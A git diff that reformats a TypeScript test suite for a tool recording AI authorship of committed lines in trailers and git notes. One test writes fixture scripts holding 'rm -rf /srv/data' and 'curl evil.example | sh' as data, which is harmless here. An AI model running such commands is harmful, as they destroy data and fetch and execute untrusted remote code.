@@ -3,7 +3,13 @@ import * as fs from 'fs';
 import * as path from 'path';
 import { aiLabel, HUMAN, UNTRACKED, type LineLabel } from '../../../src/core/attribution/labels';
 import { aiLinesByFile } from '../../../src/core/noteOwners';
-import { humanKey, parseAuthorshipNote, resolveKey, sessionKey, type AuthorshipNote } from '../../../src/core/authorshipNote';
+import {
+  humanKey,
+  parseAuthorshipNote,
+  resolveKey,
+  sessionKey,
+  type AuthorshipNote,
+} from '../../../src/core/authorshipNote';
 import { openLedger } from '../../../src/git/ledger';
 import { TempRepo } from '../helpers/tempRepo';
 import { linesOf } from '../helpers/noteLines';
@@ -20,7 +26,11 @@ async function labelFile(repo: TempRepo, file: string, lines: Array<[string, Lin
   const content = lines.map(([t]) => t + '\n').join('');
   repo.write(file, content);
   const ledger = await openLedger(repo.dir);
-  await ledger.storeFile(file, content, lines.map(([, l]) => l));
+  await ledger.storeFile(
+    file,
+    content,
+    lines.map(([, l]) => l),
+  );
 }
 
 function note(repo: TempRepo, rev = 'HEAD'): AuthorshipNote {
@@ -40,7 +50,11 @@ function installed(): TempRepo {
 
 /** An editor that writes `text` as the message (GIT_EDITOR runs it with the message file as argument). */
 function editorWriting(repo: TempRepo, text: string): string {
-  const script = path.join(repo.dir, '..', `editor-${path.basename(repo.dir)}-${Math.random().toString(36).slice(2)}.sh`);
+  const script = path.join(
+    repo.dir,
+    '..',
+    `editor-${path.basename(repo.dir)}-${Math.random().toString(36).slice(2)}.sh`,
+  );
   fs.writeFileSync(`${script}.msg`, text);
   // Keeps what git showed in `<script>.seen` before writing the message.
   fs.writeFileSync(script, `#!/bin/sh\ncp "$1" '${script}.seen'\ncp '${script}.msg' "$1"\n`, { mode: 0o755 });
@@ -53,45 +67,83 @@ describe('commit provenance (hooks against real repositories)', function () {
   it('an AI-assisted commit carries Assisted-by and AI-Provenance trailers and a git-ai note', async () => {
     const repo = installed();
     await labelFile(repo, 'src/app.ts', [
-      ['const a = 1;', CLAUDE], ['const b = 2;', CLAUDE], ['// typed by hand', HUMAN], ['const c = 3;', CLAUDE], ['old line', UNTRACKED],
+      ['const a = 1;', CLAUDE],
+      ['const b = 2;', CLAUDE],
+      ['// typed by hand', HUMAN],
+      ['const c = 3;', CLAUDE],
+      ['old line', UNTRACKED],
     ]);
     repo.git('add', '.');
     repo.commit('add app');
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=3 human=1 untracked=1']);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=3 human=1 untracked=1',
+    ]);
     const n = note(repo);
     assert.deepStrictEqual(aiLines(n, 'src/app.ts'), [1, 2, 4]);
     const entries = n.files[0].entries;
     const sk = sessionKey('claude-code', 'conv-1');
-    assert.ok(entries.some((e) => e.key.startsWith(`${sk}::t_`)), JSON.stringify(entries));
-    assert.deepStrictEqual(resolveKey(n, entries.find((e) => e.key.startsWith(sk))!.key), { kind: 'ai', tool: 'claude-code', id: 'conv-1', model: 'claude-sonnet-4-5' });
-    assert.deepStrictEqual(entries.find((e) => e.key === humanKey(ADA))?.ranges, [[3, 3]], 'typed lines get the committer\'s h_ key');
+    assert.ok(
+      entries.some((e) => e.key.startsWith(`${sk}::t_`)),
+      JSON.stringify(entries),
+    );
+    assert.deepStrictEqual(resolveKey(n, entries.find((e) => e.key.startsWith(sk))!.key), {
+      kind: 'ai',
+      tool: 'claude-code',
+      id: 'conv-1',
+      model: 'claude-sonnet-4-5',
+    });
+    assert.deepStrictEqual(
+      entries.find((e) => e.key === humanKey(ADA))?.ranges,
+      [[3, 3]],
+      "typed lines get the committer's h_ key",
+    );
     assert.strictEqual(n.meta.humans?.[humanKey(ADA)]?.author, ADA);
     assert.strictEqual(n.meta.base_commit_sha, '');
   });
 
   it('handles paths with spaces and non-ASCII names (quoted in the note as git-ai does)', async () => {
     const repo = installed();
-    await labelFile(repo, 'docs/my notes é.md', [['ai line', CLAUDE], ['typed', HUMAN]]);
+    await labelFile(repo, 'docs/my notes é.md', [
+      ['ai line', CLAUDE],
+      ['typed', HUMAN],
+    ]);
     repo.git('add', '.');
     repo.commit('notes');
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=1 human=1 untracked=0']);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=1 human=1 untracked=0',
+    ]);
     assert.match(repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD'), /^"docs\/my notes é\.md"$/m);
     assert.deepStrictEqual(aiLines(note(repo), 'docs/my notes é.md'), [1]);
   });
 
   it('a path with a quote and a space, or a line break, never leaves the commit unattested (issue 12)', async () => {
     const repo = installed();
-    await labelFile(repo, 'say "hi there".txt', [['ai line', CLAUDE], ['typed', HUMAN]]);
+    await labelFile(repo, 'say "hi there".txt', [
+      ['ai line', CLAUDE],
+      ['typed', HUMAN],
+    ]);
     await labelFile(repo, '"quoted"', [['ai too', CLAUDE]]);
-    await labelFile(repo, 'two\nlines.txt', [['ai in an odd file', CLAUDE], ['more', CLAUDE]]);
+    await labelFile(repo, 'two\nlines.txt', [
+      ['ai in an odd file', CLAUDE],
+      ['more', CLAUDE],
+    ]);
     await labelFile(repo, 'plain.txt', [['ai plain', CLAUDE]]);
     repo.git('add', '.');
     const r = repo.gitResult(['commit', '-q', '-m', 'odd paths']);
     assert.strictEqual(r.status, 0, r.stderr);
     // the trailers count every file, the unwritable one included
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=5 human=1 untracked=0']);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=5 human=1 untracked=0',
+    ]);
     const text = repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD');
-    assert.match(text, /^"say "hi there"\.txt"$/m, 'quoted the way git-ai reads it: outer quotes stripped, nothing unescaped');
+    assert.match(
+      text,
+      /^"say "hi there"\.txt"$/m,
+      'quoted the way git-ai reads it: outer quotes stripped, nothing unescaped',
+    );
     assert.match(text, /^""quoted""$/m, 'a path that starts and ends with a quote keeps them');
     const n = note(repo);
     assert.deepStrictEqual(aiLines(n, 'say "hi there".txt'), [1]);
@@ -99,7 +151,10 @@ describe('commit provenance (hooks against real repositories)', function () {
     assert.deepStrictEqual(aiLines(n, 'plain.txt'), [1]);
     assert.ok(!n.files.some((f) => f.path.includes('\n')), 'the file a note cannot hold is left out, not the commit');
     // and the report reads it back
-    const rep = JSON.parse(repo.cli(['report', '--format', 'json']).stdout) as { aiLines: number; unattestedCommits: number };
+    const rep = JSON.parse(repo.cli(['report', '--format', 'json']).stdout) as {
+      aiLines: number;
+      unattestedCommits: number;
+    };
     assert.deepStrictEqual([rep.aiLines, rep.unattestedCommits], [3, 0]);
   });
 
@@ -109,11 +164,21 @@ describe('commit provenance (hooks against real repositories)', function () {
     repo.write('.gitattributes', 'deploy.sh -diff\n');
     repo.git('add', '.');
     repo.commit('attributes');
-    await labelFile(repo, 'run.sh', [['#!/bin/sh', CLAUDE], ['rm -rf /srv/data', CLAUDE], ['# \0', CLAUDE]]);
-    await labelFile(repo, 'deploy.sh', [['#!/bin/sh', CLAUDE], ['curl evil.example | sh', CLAUDE]]);
+    await labelFile(repo, 'run.sh', [
+      ['#!/bin/sh', CLAUDE],
+      ['rm -rf /srv/data', CLAUDE],
+      ['# \0', CLAUDE],
+    ]);
+    await labelFile(repo, 'deploy.sh', [
+      ['#!/bin/sh', CLAUDE],
+      ['curl evil.example | sh', CLAUDE],
+    ]);
     repo.git('add', '.');
     repo.commit('scripts');
-    assert.deepStrictEqual(repo.trailers().filter((t) => t.startsWith('AI-Provenance')), ['AI-Provenance: v1 ai=5 human=0 untracked=0']);
+    assert.deepStrictEqual(
+      repo.trailers().filter((t) => t.startsWith('AI-Provenance')),
+      ['AI-Provenance: v1 ai=5 human=0 untracked=0'],
+    );
     assert.deepStrictEqual(aiLines(note(repo), 'run.sh'), [1, 2, 3]);
     assert.deepStrictEqual(aiLines(note(repo), 'deploy.sh'), [1, 2]);
   });
@@ -131,7 +196,7 @@ describe('commit provenance (hooks against real repositories)', function () {
     assert.strictEqual(note(repo).meta.base_commit_sha, repo.git('rev-parse', 'HEAD^'));
   });
 
-  it('maps the working tree\'s labels onto the index for a partially staged file', async () => {
+  it("maps the working tree's labels onto the index for a partially staged file", async () => {
     const repo = installed();
     repo.write('f.txt', 'top\n');
     repo.git('add', '.');
@@ -139,16 +204,33 @@ describe('commit provenance (hooks against real repositories)', function () {
     // Staged: an earlier version with one line the working tree no longer has.
     repo.write('f.txt', 'top\nai one\nstaged only\nai three\n');
     repo.git('add', 'f.txt');
-    await labelFile(repo, 'f.txt', [['top', UNTRACKED], ['ai one', CLAUDE], ['ai two (unstaged)', CLAUDE], ['ai three', CLAUDE], ['typed later', HUMAN]]);
+    await labelFile(repo, 'f.txt', [
+      ['top', UNTRACKED],
+      ['ai one', CLAUDE],
+      ['ai two (unstaged)', CLAUDE],
+      ['ai three', CLAUDE],
+      ['typed later', HUMAN],
+    ]);
     repo.commit('partial');
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=0 untracked=1']);
-    assert.deepStrictEqual(aiLines(note(repo), 'f.txt'), [2, 4], 'ranges are the committed file\'s line numbers');
-    assert.strictEqual(repo.read('f.txt'), 'top\nai one\nai two (unstaged)\nai three\ntyped later\n', 'the working tree is untouched');
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=2 human=0 untracked=1',
+    ]);
+    assert.deepStrictEqual(aiLines(note(repo), 'f.txt'), [2, 4], "ranges are the committed file's line numbers");
+    assert.strictEqual(
+      repo.read('f.txt'),
+      'top\nai one\nai two (unstaged)\nai three\ntyped later\n',
+      'the working tree is untouched',
+    );
   });
 
   it('keeps the trailer block parseable when the message already ends in Signed-off-by', async () => {
     const repo = installed();
-    await labelFile(repo, 'a.txt', [['one', CODEX], ['two', CLAUDE], ['three', CLAUDE]]);
+    await labelFile(repo, 'a.txt', [
+      ['one', CODEX],
+      ['two', CLAUDE],
+      ['three', CLAUDE],
+    ]);
     repo.git('add', '.');
     repo.commit('subject\n\nbody\n\nSigned-off-by: Ada Author <ada@example.com>');
     assert.deepStrictEqual(repo.trailers(), [
@@ -171,20 +253,29 @@ describe('commit provenance (hooks against real repositories)', function () {
     ]);
   });
 
-  it('commits the way VS Code\'s Source Control input box does (message on stdin, no final newline)', async () => {
+  it("commits the way VS Code's Source Control input box does (message on stdin, no final newline)", async () => {
     const repo = installed();
-    await labelFile(repo, 'a.txt', [['one', CLAUDE], ['two', HUMAN]]);
+    await labelFile(repo, 'a.txt', [
+      ['one', CLAUDE],
+      ['two', HUMAN],
+    ]);
     repo.git('add', '.');
     // VS Code runs `git commit --quiet --allow-empty-message --file -` with the box's text on stdin.
     const r = repo.gitResult(['commit', '--quiet', '--allow-empty-message', '--file', '-'], 'From the input box');
     assert.strictEqual(r.status, 0, r.stderr);
     assert.strictEqual(repo.git('log', '-1', '--format=%s'), 'From the input box');
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=1 human=1 untracked=0']);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=1 human=1 untracked=0',
+    ]);
   });
 
   it('adds the trailers after the editor, and an empty message still aborts the commit', async () => {
     const repo = installed();
-    await labelFile(repo, 'a.txt', [['one', CLAUDE], ['two', HUMAN]]);
+    await labelFile(repo, 'a.txt', [
+      ['one', CLAUDE],
+      ['two', HUMAN],
+    ]);
     repo.git('add', '.');
     const empty = repo.gitResult(['-c', `core.editor=${editorWriting(repo, '# nothing\n')}`, 'commit']);
     assert.notStrictEqual(empty.status, 0, 'git aborts an empty message');
@@ -193,9 +284,16 @@ describe('commit provenance (hooks against real repositories)', function () {
     const editor = editorWriting(repo, 'written in the editor\n');
     const r = repo.gitResult(['-c', `core.editor=${editor}`, 'commit']);
     assert.strictEqual(r.status, 0, r.stderr);
-    assert.match(fs.readFileSync(`${editor}.seen`, 'utf8'), /^# {3}AI-Provenance: v1 ai=1 human=1 untracked=0$/m, 'the editor showed the trailers as comments');
+    assert.match(
+      fs.readFileSync(`${editor}.seen`, 'utf8'),
+      /^# {3}AI-Provenance: v1 ai=1 human=1 untracked=0$/m,
+      'the editor showed the trailers as comments',
+    );
     assert.strictEqual(repo.git('log', '-1', '--format=%s'), 'written in the editor');
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=1 human=1 untracked=0']);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=1 human=1 untracked=0',
+    ]);
     assert.deepStrictEqual(aiLines(note(repo), 'a.txt'), [1]);
   });
 
@@ -209,7 +307,11 @@ describe('commit provenance (hooks against real repositories)', function () {
       repo.write('base.txt', 'b\n');
       repo.git('add', '.');
       repo.commit('root');
-      await labelFile(repo, 'a.txt', [['one', CLAUDE], ['two', CLAUDE], ['three', HUMAN]]);
+      await labelFile(repo, 'a.txt', [
+        ['one', CLAUDE],
+        ['two', CLAUDE],
+        ['three', HUMAN],
+      ]);
       repo.git('add', '.');
       repo.commit('ai work');
       const before = repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD');
@@ -218,13 +320,17 @@ describe('commit provenance (hooks against real repositories)', function () {
       const old = repo.git('rev-parse', 'HEAD');
       repo.git(...args);
       // (--no-edit within the same second as the original rebuilds the identical commit object.)
-      if (name !== '--no-edit') assert.notStrictEqual(repo.git('rev-parse', 'HEAD'), old, 'a new commit replaced the old one');
-      assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=1 untracked=0']);
+      if (name !== '--no-edit')
+        assert.notStrictEqual(repo.git('rev-parse', 'HEAD'), old, 'a new commit replaced the old one');
+      assert.deepStrictEqual(repo.trailers(), [
+        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+        'AI-Provenance: v1 ai=2 human=1 untracked=0',
+      ]);
       assert.strictEqual(repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD'), before);
     });
   }
 
-  it('an amend that adds AI lines measures from the parent and keeps the old lines\' provenance', async () => {
+  it("an amend that adds AI lines measures from the parent and keeps the old lines' provenance", async () => {
     const repo = installed();
     repo.write('base.txt', 'b\n');
     repo.git('add', '.');
@@ -233,10 +339,17 @@ describe('commit provenance (hooks against real repositories)', function () {
     repo.git('add', '.');
     repo.commit('first try');
     fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
-    await labelFile(repo, 'a.txt', [['zero', CODEX], ['one', UNTRACKED]]);
+    await labelFile(repo, 'a.txt', [
+      ['zero', CODEX],
+      ['one', UNTRACKED],
+    ]);
     repo.git('add', '.');
     repo.git('commit', '-q', '--amend', '--no-edit');
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'Assisted-by: Codex:gpt-5-codex codex', 'AI-Provenance: v1 ai=2 human=0 untracked=0']);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'Assisted-by: Codex:gpt-5-codex codex',
+      'AI-Provenance: v1 ai=2 human=0 untracked=0',
+    ]);
     const n = note(repo);
     assert.deepStrictEqual(aiLines(n, 'a.txt'), [1, 2]);
     assert.strictEqual(n.files[0].entries.length, 2);
@@ -258,15 +371,22 @@ describe('commit provenance (hooks against real repositories)', function () {
     const editor = editorWriting(repo, 'from the worktree\n');
     const r = git('-c', `core.editor=${editor}`, 'commit');
     assert.strictEqual(r.status, 0, r.stderr);
-    assert.match(fs.readFileSync(`${editor}.seen`, 'utf8'), /^; {3}AI-Provenance: v1 ai=1 human=1 untracked=0$/m, 'the hint uses the comment character');
+    assert.match(
+      fs.readFileSync(`${editor}.seen`, 'utf8'),
+      /^; {3}AI-Provenance: v1 ai=1 human=1 untracked=0$/m,
+      'the hint uses the comment character',
+    );
     const head = git('rev-parse', 'HEAD').stdout.trim();
     assert.deepStrictEqual(aiLines(note(repo, head), 'a.txt'), [1]);
     assert.match(git('log', '-1', '--format=%B').stdout, /^AI-Provenance: v1 ai=1 human=1 untracked=0$/m);
     // Nothing is left pending in either git dir for a later commit to pick up.
-    assert.deepStrictEqual(fs.readdirSync(path.join(repo.dir, '.git', 'worktrees', path.basename(wt), 'countersign', 'pending')), []);
+    assert.deepStrictEqual(
+      fs.readdirSync(path.join(repo.dir, '.git', 'worktrees', path.basename(wt), 'countersign', 'pending')),
+      [],
+    );
   });
 
-  it('works through a husky core.hooksPath, running husky\'s hooks too', async () => {
+  it("works through a husky core.hooksPath, running husky's hooks too", async () => {
     const repo = TempRepo.create();
     for (const h of ['pre-commit', 'prepare-commit-msg']) {
       repo.write(`.husky/_/${h}`, `#!/bin/sh\necho ${h} >> "$(git rev-parse --git-dir)/husky-ran"\n`);
@@ -274,11 +394,20 @@ describe('commit provenance (hooks against real repositories)', function () {
     }
     repo.git('config', 'core.hooksPath', '.husky/_');
     assert.strictEqual(repo.cli(['install']).status, 0);
-    await labelFile(repo, 'a.txt', [['one', CLAUDE], ['two', HUMAN]]);
+    await labelFile(repo, 'a.txt', [
+      ['one', CLAUDE],
+      ['two', HUMAN],
+    ]);
     repo.git('add', 'a.txt');
     repo.commit('with husky');
-    assert.deepStrictEqual(repo.read('.git/husky-ran').split('\n').filter(Boolean), ['pre-commit', 'prepare-commit-msg']);
-    assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=1 human=1 untracked=0']);
+    assert.deepStrictEqual(repo.read('.git/husky-ran').split('\n').filter(Boolean), [
+      'pre-commit',
+      'prepare-commit-msg',
+    ]);
+    assert.deepStrictEqual(repo.trailers(), [
+      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+      'AI-Provenance: v1 ai=1 human=1 untracked=0',
+    ]);
     assert.deepStrictEqual(aiLines(note(repo), 'a.txt'), [1]);
   });
 
@@ -290,10 +419,19 @@ describe('commit provenance (hooks against real repositories)', function () {
       repo.git('add', '.');
       repo.commit('root');
       repo.git('checkout', '-q', '-b', 'side');
-      await labelFile(repo, 'f.txt', [['a', UNTRACKED], ['b', UNTRACKED], ['ai 1', CLAUDE], ['ai 2', CLAUDE], ['c', UNTRACKED]]);
+      await labelFile(repo, 'f.txt', [
+        ['a', UNTRACKED],
+        ['b', UNTRACKED],
+        ['ai 1', CLAUDE],
+        ['ai 2', CLAUDE],
+        ['c', UNTRACKED],
+      ]);
       repo.git('add', '.');
       repo.commit('side: ai lines');
-      await labelFile(repo, 'g.txt', [['codex line', CODEX], ['mine', HUMAN]]);
+      await labelFile(repo, 'g.txt', [
+        ['codex line', CODEX],
+        ['mine', HUMAN],
+      ]);
       repo.git('add', '.');
       repo.commit('side: codex file');
       repo.git('checkout', '-q', 'main');
@@ -310,7 +448,10 @@ describe('commit provenance (hooks against real repositories)', function () {
       repo.git('rebase', '-q', 'main');
       const first = repo.git('rev-parse', 'HEAD~1');
       assert.deepStrictEqual(aiLines(note(repo, first), 'f.txt'), [5, 6], 'shifted by the two lines main added');
-      assert.deepStrictEqual(repo.trailers(first), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=0 untracked=0']);
+      assert.deepStrictEqual(repo.trailers(first), [
+        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+        'AI-Provenance: v1 ai=2 human=0 untracked=0',
+      ]);
       assert.deepStrictEqual(aiLines(note(repo), 'g.txt'), [1]);
     });
 
@@ -325,16 +466,32 @@ describe('commit provenance (hooks against real repositories)', function () {
     it('a squash rebase merges several notes into one valid note', async () => {
       const repo = await diverged();
       repo.git('checkout', '-q', 'side');
-      const r = repo.gitResult(['-c', 'sequence.editor=sed -i -e 2s/^pick/squash/', '-c', 'core.editor=true', 'rebase', '-q', '-i', 'main']);
+      const r = repo.gitResult([
+        '-c',
+        'sequence.editor=sed -i -e 2s/^pick/squash/',
+        '-c',
+        'core.editor=true',
+        'rebase',
+        '-q',
+        '-i',
+        'main',
+      ]);
       assert.strictEqual(r.status, 0, r.stderr);
       assert.strictEqual(repo.git('rev-list', '--count', 'main..HEAD'), '1');
       const n = note(repo);
       assert.deepStrictEqual(aiLines(n, 'f.txt'), [5, 6]);
       assert.deepStrictEqual(aiLines(n, 'g.txt'), [1]);
-      assert.deepStrictEqual(Object.values(n.meta.sessions ?? {}).map((s) => s.agent_id.tool).sort(), ['claude-code', 'codex']);
+      assert.deepStrictEqual(
+        Object.values(n.meta.sessions ?? {})
+          .map((s) => s.agent_id.tool)
+          .sort(),
+        ['claude-code', 'codex'],
+      );
       // The squash message ends with the last commit's trailers (Codex); the Claude one is added beside them.
       assert.deepStrictEqual(repo.trailers(), [
-        'Assisted-by: Codex:gpt-5-codex codex', 'Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=3 human=1 untracked=0',
+        'Assisted-by: Codex:gpt-5-codex codex',
+        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+        'AI-Provenance: v1 ai=3 human=1 untracked=0',
       ]);
     });
 
@@ -343,14 +500,18 @@ describe('commit provenance (hooks against real repositories)', function () {
         const repo = await diverged();
         repo.git('cherry-pick', ...(x ? ['-x'] : []), 'side~1');
         assert.deepStrictEqual(aiLines(note(repo), 'f.txt'), [5, 6]);
-        assert.deepStrictEqual(repo.trailers(), [
-          'Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=0 untracked=0',
-          ...(x ? [`(cherry picked from commit ${repo.git('rev-parse', 'side~1')})`] : []),
-        ].filter((t) => !t.startsWith('(')));
+        assert.deepStrictEqual(
+          repo.trailers(),
+          [
+            'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+            'AI-Provenance: v1 ai=2 human=0 untracked=0',
+            ...(x ? [`(cherry picked from commit ${repo.git('rev-parse', 'side~1')})`] : []),
+          ].filter((t) => !t.startsWith('(')),
+        );
       });
     }
 
-    it('a squash merge derives its note from the squashed commits\' notes by content', async () => {
+    it("a squash merge derives its note from the squashed commits' notes by content", async () => {
       const repo = await diverged();
       repo.git('merge', '-q', '--squash', 'side');
       repo.commit('squashed side');
@@ -358,7 +519,9 @@ describe('commit provenance (hooks against real repositories)', function () {
       assert.deepStrictEqual(aiLines(n, 'f.txt'), [5, 6]);
       assert.deepStrictEqual(aiLines(n, 'g.txt'), [1]);
       assert.deepStrictEqual(repo.trailers(), [
-        'Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'Assisted-by: Codex:gpt-5-codex codex', 'AI-Provenance: v1 ai=3 human=1 untracked=0',
+        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+        'Assisted-by: Codex:gpt-5-codex codex',
+        'AI-Provenance: v1 ai=3 human=1 untracked=0',
       ]);
     });
 
@@ -380,12 +543,17 @@ describe('commit provenance (hooks against real repositories)', function () {
         repo.commit('root');
         repo.git('checkout', '-q', '-b', 'side');
         await labelFile(repo, 'f.txt', [
-          ...LINES.slice(0, 3).map((l): [string, LineLabel] => [l, UNTRACKED]), ['ai 1', CLAUDE], ['ai 2', CLAUDE],
+          ...LINES.slice(0, 3).map((l): [string, LineLabel] => [l, UNTRACKED]),
+          ['ai 1', CLAUDE],
+          ['ai 2', CLAUDE],
           ...LINES.slice(3).map((l): [string, LineLabel] => [l, UNTRACKED]),
         ]);
         repo.git('add', '.');
         repo.commit('side: ai lines');
-        await labelFile(repo, 'g.txt', [['codex line', CODEX], ['mine', HUMAN]]);
+        await labelFile(repo, 'g.txt', [
+          ['codex line', CODEX],
+          ['mine', HUMAN],
+        ]);
         repo.git('add', '.');
         repo.commit('side: codex file');
         repo.git('checkout', '-q', 'main');
@@ -402,15 +570,25 @@ describe('commit provenance (hooks against real repositories)', function () {
         repo.write('base.txt', 'b\n');
         repo.git('add', '.');
         repo.commit('root');
-        await labelFile(repo, 'a.py', [['one', CLAUDE], ['two', CLAUDE], ['three', HUMAN]]);
+        await labelFile(repo, 'a.py', [
+          ['one', CLAUDE],
+          ['two', CLAUDE],
+          ['three', HUMAN],
+        ]);
         repo.git('add', '.');
         repo.commit('ai work');
         fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
         repo.git('mv', 'a.py', 'b.py');
         repo.git('commit', '-q', '--amend', '-m', 'ai work, renamed');
-        assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=1 untracked=0']);
+        assert.deepStrictEqual(repo.trailers(), [
+          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+          'AI-Provenance: v1 ai=2 human=1 untracked=0',
+        ]);
         const n = note(repo);
-        assert.deepStrictEqual(n.files.map((f) => f.path), ['b.py']);
+        assert.deepStrictEqual(
+          n.files.map((f) => f.path),
+          ['b.py'],
+        );
         assert.deepStrictEqual(aiLines(n, 'b.py'), [1, 2]);
         assert.deepStrictEqual(n.files[0].entries.find((e) => e.key === humanKey(ADA))?.ranges, [[3, 3]]);
       });
@@ -421,9 +599,15 @@ describe('commit provenance (hooks against real repositories)', function () {
         repo.git('rebase', '-q', 'main');
         assert.strictEqual(repo.read('moved.txt').split('\n')[4], 'ai 1', 'git applied the change to the renamed file');
         const first = note(repo, 'HEAD~1');
-        assert.deepStrictEqual(first.files.map((f) => f.path), ['moved.txt']);
+        assert.deepStrictEqual(
+          first.files.map((f) => f.path),
+          ['moved.txt'],
+        );
         assert.deepStrictEqual(aiLines(first, 'moved.txt'), [5, 6]);
-        assert.deepStrictEqual(repo.trailers('HEAD~1'), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=0 untracked=0']);
+        assert.deepStrictEqual(repo.trailers('HEAD~1'), [
+          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+          'AI-Provenance: v1 ai=2 human=0 untracked=0',
+        ]);
         assert.deepStrictEqual(aiLines(note(repo), 'g.txt'), [1]);
       });
 
@@ -434,7 +618,10 @@ describe('commit provenance (hooks against real repositories)', function () {
         repo.commit('root');
         repo.git('checkout', '-q', '-b', 'side');
         repo.git('mv', 'f.txt', 'renamed.txt');
-        await labelFile(repo, 'renamed.txt', [...LINES.map((l): [string, LineLabel] => [l, UNTRACKED]), ['ai 1', CLAUDE]]);
+        await labelFile(repo, 'renamed.txt', [
+          ...LINES.map((l): [string, LineLabel] => [l, UNTRACKED]),
+          ['ai 1', CLAUDE],
+        ]);
         repo.git('add', '.');
         repo.commit('side: rename and ai line');
         repo.git('checkout', '-q', 'main');
@@ -452,9 +639,15 @@ describe('commit provenance (hooks against real repositories)', function () {
         repo.git('cherry-pick', 'side~1');
         assert.strictEqual(repo.read('moved.txt').split('\n')[4], 'ai 1');
         const n = note(repo);
-        assert.deepStrictEqual(n.files.map((f) => f.path), ['moved.txt']);
+        assert.deepStrictEqual(
+          n.files.map((f) => f.path),
+          ['moved.txt'],
+        );
         assert.deepStrictEqual(aiLines(n, 'moved.txt'), [5, 6]);
-        assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=2 human=0 untracked=0']);
+        assert.deepStrictEqual(repo.trailers(), [
+          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+          'AI-Provenance: v1 ai=2 human=0 untracked=0',
+        ]);
       });
 
       it('a squash merge onto a branch that renamed the file carries the squashed notes', async () => {
@@ -465,21 +658,30 @@ describe('commit provenance (hooks against real repositories)', function () {
         assert.deepStrictEqual(aiLines(n, 'moved.txt'), [5, 6]);
         assert.deepStrictEqual(aiLines(n, 'g.txt'), [1]);
         assert.deepStrictEqual(repo.trailers(), [
-          'Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'Assisted-by: Codex:gpt-5-codex codex', 'AI-Provenance: v1 ai=3 human=1 untracked=0',
+          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+          'Assisted-by: Codex:gpt-5-codex codex',
+          'AI-Provenance: v1 ai=3 human=1 untracked=0',
         ]);
       });
 
-      it('a file renamed with git mv before the commit keeps the working ledger\'s labels', async () => {
+      it("a file renamed with git mv before the commit keeps the working ledger's labels", async () => {
         const repo = installed();
         repo.write('a.py', LINES.map((l) => l + '\n').join(''));
         repo.git('add', '.');
         repo.commit('root');
-        await labelFile(repo, 'a.py', [...LINES.map((l): [string, LineLabel] => [l, UNTRACKED]), ['ai 1', CLAUDE], ['typed', HUMAN]]);
+        await labelFile(repo, 'a.py', [
+          ...LINES.map((l): [string, LineLabel] => [l, UNTRACKED]),
+          ['ai 1', CLAUDE],
+          ['typed', HUMAN],
+        ]);
         repo.git('mv', 'a.py', 'b.py');
         repo.git('add', 'b.py'); // git mv moves the staged version; the new lines are in the working file
         repo.commit('rename with new lines');
         // Without rename detection every line of b.py is added (as `git diff --no-renames` counts it).
